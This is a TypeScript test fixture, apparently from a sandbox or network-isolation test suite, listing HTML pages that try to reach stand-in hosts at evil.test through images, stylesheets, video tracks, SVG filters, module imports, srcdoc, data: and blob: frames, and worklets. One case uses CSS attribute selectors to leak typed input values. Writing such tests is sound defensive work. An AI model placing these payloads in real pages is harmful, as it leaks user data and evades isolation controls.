import type { EscapeCase } from './escape-case.ts'

const category = 'subresource'

export const subresourceCases: readonly EscapeCase[] = [
  { id: 'SUB-01', category, attack: 'image', page: '<img src="https://sub-01.evil.test/x">' },
  { id: 'SUB-03', category, attack: 'stylesheet', page: '<link rel="stylesheet" href="https://sub-03.evil.test/x">' },
  {
    id: 'SUB-05',
    category,
    attack: 'what is typed, read by style selectors',
    page: `<style>input[value^="a"] { background: url(https://sub-05.evil.test/x/a) }</style>
      <input value="abc">`,
  },
  {
    id: 'SUB-07',
    category,
    attack: 'video, poster and track',
    page: `<video src="https://sub-07.evil.test/x1" poster="https://sub-07.evil.test/x2" autoplay muted crossorigin>
      <track default src="https://sub-07.evil.test/x3"></video>`,
  },
  {
    id: 'SUB-09',
    category,
    attack: 'SVG image, use and feImage',
    page: `<svg><image href="https://sub-09.evil.test/x1" width="9" height="9"/>
      <use href="https://sub-09.evil.test/x2#a"/><filter id="f"><feImage href="https://sub-09.evil.test/x3"/></filter>
      <rect width="9" height="9" filter="url(#f)"/></svg>`,
  },
  {
    id: 'SUB-11',
    category,
    attack: 'dynamic import and modulepreload',
    page: `<link rel="modulepreload" href="https://sub-11.evil.test/x2">
      <script type="module">import('https://sub-11.evil.test/x1')</script>`,
  },
  {
    id: 'SUB-13',
    category,
    attack: 'srcdoc, data:, blob: and about:blank frames',
    page: `<script>
      const image = name => '<img src="https://sub-13.evil.test/' + name + '">'
      const frame = source => { const one = document.createElement('iframe'); Object.assign(one, source)
        document.body.append(one); return one }
      document.addEventListener('DOMContentLoaded', () => {
        frame({ srcdoc: image('srcdoc') })
        frame({ src: 'data:text/html,' + image('data') })
        frame({ src: URL.createObjectURL(new Blob([image('blob')], { type: 'text/html' })) })
        frame({}).contentDocument.write(image('blank'))
      })</script>`,
  },
  {
    id: 'SUB-15',
    category,
    attack: 'paint and audio worklets',
    page: `<script>CSS.paintWorklet.addModule('https://sub-15.evil.test/x1').catch(() => 0)
      new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('https://sub-15.evil.test/x2').catch(() => 0)</script>`,
  },
]
